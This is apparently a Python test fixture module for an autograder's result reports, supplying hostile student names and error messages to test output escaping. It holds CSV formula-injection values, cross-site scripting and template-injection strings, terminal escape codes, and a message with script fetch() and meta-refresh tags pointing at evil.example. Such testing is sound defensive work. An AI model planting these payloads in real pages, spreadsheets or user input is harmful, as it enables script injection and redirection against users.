"""Results with hostile names and messages, which break any output that does not escape them."""

from __future__ import annotations

import csv
import hashlib
import os
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

from autograder.classroom.results_folder import result_file
from autograder.judging.records.results import CheckResult, ExerciseResult, SubmissionResult, write_json
from autograder.judging.records.status import ExerciseStatus
from course.syllabus import find_lesson

Command = Callable[..., subprocess.CompletedProcess[str]]


LESSON = "ch06_vjps"
EXERCISES = len(find_lesson(LESSON).exercises)


def worth(*slugs: str) -> str:
    """The points of these lessons together, as reports write them."""
    return f"{sum(find_lesson(slug).points for slug in slugs):g}"


NAMES = [
    "ann",
    "Ann",
    "bob@example.com @octocat #1",
    "=HYPERLINK(A1)",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "＝1",
    " =1",
    "\t=1",
    "'=1",
    '"quoted", and; separated',
    "a;=1",
    'b; "@SUM(A1);-x',
    "<img src=x onerror=\"document.title='pwned'\">",
    "<script>document.title='pwned'<",
    "{{ 7*7 }}{% raise %}",
    "| a | `tick` ``` *star* _u_ [x](y) <b> \\| \\",
    "www.evil.example",
    "two\nlines",
    "\x1b[31mred\x07",
    "\u202egnp.exe",
    "a\u2028b",
    "n" * 255,
    os.fsdecode(b"caf\xe9"),
    "&lt;b&gt; ]]> -->",
    "con",
    "index",
    "students",
    "class-reports",
    "日本語",
]
EVIL = (
    "</pre></style></script></title><script>fetch('http://evil.example/script')</script>\n"
    "<img src='http://evil.example/image' onerror='document.title=1'> {{ 7*7 }} {% for %}\n"
    "````\n"
    "  ]]> --> ``` ```` | | \x00\x08\x0b\x1b[2J\ufffe\ud800 \u202e *nan\n"
    "<meta http-equiv=refresh content='0;url=http://evil.example/meta'><base href='http://evil.example/'>"
)
"""A message with every syntax that could end its context."""


def a_result(student: str, *, lesson: str = LESSON, message: str = EVIL, file: str | None = None) -> SubmissionResult:
    """A result in which the first exercise passes, the second fails with a message, and the rest is missing."""
    exercises = []
    for place, listed in enumerate(find_lesson(lesson).exercises):
        statuses: tuple[ExerciseStatus, ...] = ("passed", "partial", "error", "missing")
        status = statuses[min(place, 3)]
        points = listed.points if status == "passed" else listed.points / 2 if status == "partial" else 0.0
        said = {"passed": "", "missing": f"{listed.name} is not written yet."}.get(status, message)
        mistake = "add_not_summed" if status == "partial" else None
        checks = [
            CheckResult(f"test_{listed.name}", visible, promise, status == "passed", said)
            for visible, promise in ((True, "value"), (False, "instrumented"))
        ]
        exercises.append(
            ExerciseResult(
                listed.name,
                points,
                listed.points,
                status,
                said,
                mistake,
                listed.hints[0],
                0.25,
                checks,
                [mistake] if mistake else [],
            )
        )
    return SubmissionResult(
        student=student,
        lesson=lesson,
        file=file or f"{lesson}.py",
        sha256=hashlib.sha256(student.encode(errors="surrogatepass")).hexdigest(),
        grader_version="0.1.0+abc",
        isolation="sandbox (Landlock ABI 7)",
        points=sum(exercise.points for exercise in exercises),
        max_points=find_lesson(lesson).points,
        status="graded",
        message="",
        exercises=exercises,
        salt_sha256="s",
    )


def unreadable(student: str, lesson: str = "ch07_mlp_backprop") -> SubmissionResult:
    result = a_result(student, lesson=lesson)
    result.status, result.message, result.points, result.exercises = "unreadable", EVIL.replace("\n", " "), 0.0, []
    return result


def write(folder: Path, *results: SubmissionResult) -> None:
    for result in results:
        write_json(result_file(folder, result.student, result.lesson), result.to_json())


# CSV
def read_csv(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8-sig", newline="") as text:
        return list(csv.DictReader(text, strict=True))


def texts(element: Any) -> str:
    return str(element.text_content())
